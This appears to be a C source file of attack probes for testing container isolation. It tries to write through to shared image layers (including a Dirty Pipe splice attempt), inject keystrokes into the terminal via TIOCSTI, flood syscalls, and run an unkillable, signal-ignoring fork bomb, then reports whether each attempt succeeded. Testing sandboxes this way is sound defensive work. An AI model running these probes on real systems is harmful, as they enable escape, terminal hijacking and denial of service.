// What a container does to others' layers, to who watches it and to who wants to end it.
#include "attack.h"
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>

// FILE: everything that could reach the layer below instead of the copy above.
static enum result deface(int n, char **a) {
    int reading = open(a[0], O_RDONLY | O_CLOEXEC), writing;
    char *seen = mmap(NULL, 4096, PROT_READ, MAP_SHARED, reading, 0);
    if (seen != MAP_FAILED && !mprotect(seen, 4096, PROT_READ | PROT_WRITE)) return succeeded("a page of the layer's is writable");
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", reading);
    // By its old descriptor first, while it is the layer's.
    if (!fchmod(reading, 04777) || !fchown(reading, 1, 1)) { /* copied up by now */ }
    int again = open(path, O_WRONLY | O_CLOEXEC);
    if (again >= 0 && write(again, "x", 1) == 1 && seen != MAP_FAILED && seen[0] == 'x') return succeeded("the layer's page has changed");
    long flags = 0x10;   // FS_IMMUTABLE_FL
    ioctl(reading, _IOW('f', 2, long), &flags);
    syscall(SYS_fallocate, reading, 3 /* punch a hole */, 0, 4096);
    syscall(SYS_fsetxattr, reading, "user.attack", "x", 1, 0);
    futimens(reading, NULL);
    int ends[2];
    if (pipe(ends)) return stopped_by("pipe");   // a page of the file's in a pipe, and then written to (CVE-2022-0847)
    loff_t offset = 1;
    if (splice(reading, &offset, ends[1], NULL, 1, 0) == 1) write(ends[1], "x", 1);
    if (seen != MAP_FAILED && seen[2] == 'x' && seen[1] != 'x') return succeeded("the page in the pipe was the file's");
    writing = open(a[0], O_RDWR | O_CLOEXEC);
    if (writing < 0) { unlink(a[0]); writing = open(a[0], O_RDWR | O_CREAT | O_CLOEXEC, 0777); }
    char *mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writing, 0);
    if (mapped != MAP_FAILED) memset(mapped, 'x', 100);
    ftruncate(writing, 100);
    chmod(a[0], 0600);
    chown(a[0], 1000, 1000);
    unlink(a[0]);
    return access(a[0], F_OK) ? stopped("defaced its own") : stopped("it is still there");
}

static enum result type_into_terminal(int n, char **a) {
    char paste = 3;
    if (!ioctl(0, TIOCSTI, "x")) return succeeded("TIOCSTI");
    if (!ioctl(0, 0x541C /* TIOCLINUX */, &paste)) return succeeded("TIOCLINUX");
    return isatty(0) ? stopped_by("ioctl") : absent("a terminal");
}

// Until it is killed.
static enum result flood_denied(int n, char **a) { for (;;) syscall(SYS_keyctl, 0, 0, 0, 0, 0); return STOPPED; }

static enum result make_pipe(int n, char **a) { return mknod(a[0], S_IFIFO | 0666, 0) ? stopped_by("mknod") : stopped("made"); }

// FOLDER: stays there.
static enum result sleep_in(int n, char **a) {
    if (chroot(a[0]) || chdir("/")) return stopped_by("chroot");
    for (;;) pause();
    return STOPPED;
}

// Until it is killed: each child leaves its parent, its group and its session, and hears no signal.
static enum result multiply(int n, char **a) {
    for (int signal = 1; signal < 32; signal++) sigaction(signal, &(struct sigaction){ .sa_handler = SIG_IGN }, NULL);
    for (;;) {
        if (fork() == 0) { setsid(); prctl(PR_SET_PDEATHSIG, 0); }
        usleep(20000);   // many, not busy: a machine without processors left tells nothing
    }
    return STOPPED;
}

const struct attack hostile[] = {
    { "deface", deface }, { "type-into-terminal", type_into_terminal }, { "flood-denied", flood_denied }, { "pipe", make_pipe }, { "sleep-in", sleep_in }, { "multiply", multiply }, { 0 } };
